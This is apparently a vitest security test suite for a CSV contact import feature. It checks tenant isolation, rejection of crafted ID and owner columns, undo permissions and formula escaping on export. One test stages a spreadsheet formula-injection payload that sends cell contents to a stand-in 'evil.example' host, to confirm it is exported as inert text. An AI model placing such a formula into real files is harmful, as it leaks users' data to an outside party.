import { randomUUID } from 'node:crypto';
import { beforeAll, expect, it } from 'vitest';
import { csvCell } from '#shared/format/csv.ts';
import { service } from '../../support/backend.ts';
import { memberOf, type Person, person, succeed, tenantOwner } from '../world.ts';

let victim: Person;
let teammate: Person;
let thief: Person;

beforeAll(async () => {
  victim = await tenantOwner();
  teammate = await memberOf(victim.tenantId);
  thief = await person('broker');
});

const beginImport = (who: Person, id: string, columns = ['name', 'company', 'email']) =>
  who.client.rpc('begin_import', {
    p_id: id,
    p_kind: 'contacts',
    p_file_name: 'clients.csv',
    p_columns: columns,
  });
const stage = (who: Person, id: string, values: Record<string, unknown>) =>
  who.client.rpc('stage_import_rows', { p_id: id, p_rows: [{ at: 2, values }] as never });
const finish = (who: Person, id: string, duplicates = 'create') =>
  who.client.rpc('finish_import', { p_id: id, p_total: 1, p_duplicates: duplicates });
const undo = (who: Person, id: string) =>
  who.client.rpc('undo_import', { p_id: id, p_edited: 'remove' });
const codeOf = async (call: PromiseLike<{ error: { code?: string } | null }>) =>
  (await call).error?.code;
const rowOf = async (who: Person, company: string) =>
  (await succeed(who.client.from('contacts').select().eq('company', company)))[0];

it("another user's import can't be extended, read, finished or undone, even by a teammate", async () => {
  const company = randomUUID();
  const id = randomUUID();
  await succeed(beginImport(victim, id));
  await succeed(stage(victim, id, { name: 'Ada', company }));
  for (const who of [thief, teammate]) {
    expect(await codeOf(beginImport(who, id))).toBe('HXRIN');
    expect(await codeOf(stage(who, id, { name: 'Eve', company }))).toBe('HXRIN');
    expect(await codeOf(who.client.rpc('validate_import', { p_id: id }))).toBe('HXRIN');
    expect(await codeOf(finish(who, id))).toBe('HXRIN');
    expect(await codeOf(who.client.rpc('import_state', { p_id: id }))).toBe('HXRIN');
  }
  await succeed(finish(victim, id));
  for (const who of [thief, teammate]) expect(await codeOf(undo(who, id))).toBe('HXRIN');
  expect(await rowOf(teammate, company)).toMatchObject({ name: 'Ada', deleted_at: null });
  expect(await succeed(thief.client.rpc('my_imports', { p_kind: 'contacts' }))).toEqual([]);
});

it('IDs, owners, tenants, versions and timestamps in a file are ignored', async () => {
  for (const column of [
    'id',
    'owner_id',
    'tenant_id',
    'workspace_id',
    'version',
    'sharing',
    'created_at',
    'deleted_at',
  ]) {
    expect(await codeOf(beginImport(thief, randomUUID(), ['name', column])), column).toBe('HXRIF');
  }
  const company = randomUUID();
  const id = randomUUID();
  await succeed(beginImport(thief, id));
  const crafted = {
    name: 'Eve',
    company,
    id: randomUUID(),
    owner_id: victim.id,
    tenant_id: victim.tenantId,
    workspace_id: victim.tenantId,
    version: 99,
    created_at: '1999-01-01',
  };
  await succeed(stage(thief, id, crafted));
  await succeed(finish(thief, id));
  const row = await rowOf(thief, company);
  expect(row).toMatchObject({ owner_id: thief.id, tenant_id: null, version: 1 });
  expect(row?.id).not.toBe(crafted.id);
  expect(await rowOf(victim, company)).toBeUndefined();
});

it("a row with another team's client email can't find or change that client", async () => {
  const company = randomUUID();
  const email = `ada@${company}.example`;
  await succeed(
    victim.client.from('contacts').insert({ name: 'Ada', company, email }).select('id'),
  );
  const id = randomUUID();
  await succeed(beginImport(thief, id));
  await succeed(stage(thief, id, { name: 'Mallory', email }));
  expect(await succeed(thief.client.rpc('validate_import', { p_id: id }))).toMatchObject({
    known: 0,
  });
  const done = await succeed(finish(thief, id, 'update'));
  expect(done).toMatchObject({ added: 1, changed: 0 });
  expect(await rowOf(victim, company)).toMatchObject({ name: 'Ada', version: 1 });
});

it("records that left the team can't be undone by its import", async () => {
  const company = randomUUID();
  const id = randomUUID();
  await succeed(beginImport(teammate, id));
  await succeed(stage(teammate, id, { name: 'Ada', company }));
  await succeed(finish(teammate, id));
  await succeed(service().from('tenant_users').delete().eq('user_id', teammate.id).select());
  expect(await codeOf(undo(teammate, id))).toBe('HXRIN');
  expect(await rowOf(victim, company)).toMatchObject({ name: 'Ada', deleted_at: null });
});

it('an imported formula cell is exported as text', async () => {
  const company = randomUUID();
  const id = randomUUID();
  const formula = '=HYPERLINK("https://evil.example?x="&A1,"Open")';
  await succeed(beginImport(thief, id));
  await succeed(stage(thief, id, { name: formula, company }));
  await succeed(finish(thief, id));
  const row = await rowOf(thief, company);
  expect(row?.name).toBe(formula);
  expect(csvCell(row?.name ?? '')).toMatch(/^"'=/);
});

it("import tables can't be accessed from outside", async () => {
  for (const table of [
    'record_imports',
    'record_import_rows',
    'record_import_results',
    'record_import_parts',
  ]) {
    const result = await thief.client.from(table as 'contacts').select();
    expect(result.error?.code, table).toMatch(/^(?:42P01|PGRST205|42501)$/);
  }
});
